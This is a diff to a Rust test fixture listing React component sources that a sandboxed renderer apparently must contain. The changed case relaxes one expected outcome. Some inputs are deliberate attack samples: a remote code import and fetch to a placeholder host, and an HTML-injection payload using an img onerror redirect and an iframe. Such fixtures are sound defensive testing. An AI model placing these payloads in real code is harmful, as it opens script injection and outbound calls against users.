@@ -245,8 +245,9 @@ pub const COMPONENTS: [(&str, Expected, &str); 11] = [
         "import { useEffect } from 'react';\nexport default () => { useEffect(() => { import(['http:', '', 'THERE', 'a.js'].join('/')).catch(() => {}); fetch('http://THERE/').catch(() => {}); }, []); return <p>a</p>; };",
     ),
     (
+        // It leaves itself while it loads, and is refused: on a busy machine its load may not end.
         "markup",
-        Renders,
+        Either,
         "export default () => <div dangerouslySetInnerHTML={{ __html: `a<img src=x onerror=\"location = 'http://THERE/'\"><iframe src=http://THERE/></iframe>` }} />;",
     ),
     ("no_grammar", Fails(&["does not parse: 1:"]), "export default (((<<<{{{"),
